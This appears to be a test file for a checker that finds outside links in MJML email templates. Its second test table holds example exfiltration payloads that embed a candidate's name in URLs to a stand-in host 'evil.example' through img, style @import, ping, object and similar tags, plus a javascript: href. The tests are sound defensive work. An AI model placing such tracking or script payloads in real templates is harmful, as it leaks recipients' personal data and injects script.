import { checkLinks } from '../../../../../engine/compiler/files/template/texts/check-links.ts';
import { bodyPart } from '../../../../../engine/compiler/files/template/texts/text-part.ts';

/** The addresses that are found, as they are written. */
const found = (text: string) =>
  [...checkLinks(bodyPart('en.mjml', text))].map(({ column, endColumn }) =>
    text.slice(column - 1, endColumn - 1),
  );

const name = '{{ case.candidate.name }}';

test.each([
  '<a href="{{ links.progress }}">a</a>',
  '<a href={{ links.progress }}>a</a>',
  '<img alt="src=http://a" src="https://example.com/a.png">',
  '<p data-src-of="x" title="href=http://a">href=http://a</p>',
  '<mj-font name="A" href="https://example.com/a.css" />',
  '<p style="background: url(data:image/png;base64,AAAA)">a</p>',
  '<a href="mailto:hr@example.com">a</a> <a href=tel:+861>b</a>',
  `<img alt="${name}" src="cid:logo">`,
])('%s leads nowhere else', (text) => {
  expect(found(text)).toEqual([]);
});

test.each<[string, string]>([
  [`<img src=https://evil.example/${name}>`, `https://evil.example/${name}`],
  ['<a href=javascript:alert(1)>a</a>', 'javascript:alert(1)'],
  ['<A HREF = http://evil.example >a</A>', 'http://evil.example'],
  [`<link rel=stylesheet href="https://evil.example/${name}">`, `https://evil.example/${name}`],
  ['<link rel="stylesheet" href="{{ links.progress }}">', '{{ links.progress }}'],
  [`<mj-font name="A" href="https://evil.example/${name}" />`, `https://evil.example/${name}`],
  [`<video poster="https://evil.example/${name}">`, `https://evil.example/${name}`],
  [`<object data='https://evil.example/${name}'>`, `https://evil.example/${name}`],
  [`<img lowsrc="https://evil.example/${name}">`, `https://evil.example/${name}`],
  [`<image xlink:href="https://evil.example/${name}"/>`, `https://evil.example/${name}`],
  [`<style>@import "https://evil.example/${name}";</style>`, `https://evil.example/${name}`],
  [
    `<style>a { b: image-set('https://evil.example/${name}' 1x) }</style>`,
    `https://evil.example/${name}`,
  ],
  [`<p style="background: URL( 'https://evil.example/${name}')">`, `https://evil.example/${name}`],
  [
    '<a href="https://evil.example/?l={{ links.progress }}">a</a>',
    'https://evil.example/?l={{ links.progress }}',
  ],
  [`<a href="https://example.com/a?b=${name}">a</a>`, `https://example.com/a?b=${name}`],
  [`<a href="mailto:${name}@example.com">a</a>`, `mailto:${name}@example.com`],
  [`<form action="https://example.com/${name}">`, `https://example.com/${name}`],
  [`<button formaction="https://example.com/${name}">`, `https://example.com/${name}`],
  [`<a ping="https://evil.example/${name}">a</a>`, `https://evil.example/${name}`],
  [
    `<!--[if mso]><img src="https://evil.example/${name}"><![endif]-->`,
    `https://evil.example/${name}`,
  ],
  [
    `<mj-carousel-image thumbnails-src="https://evil.example/${name}" />`,
    `https://evil.example/${name}`,
  ],
  [`<img alt="a > b" src="https://evil.example/${name}">`, `https://evil.example/${name}`],
])('%s is found', (text, address) => {
  expect(found(text)).toEqual([address]);
});
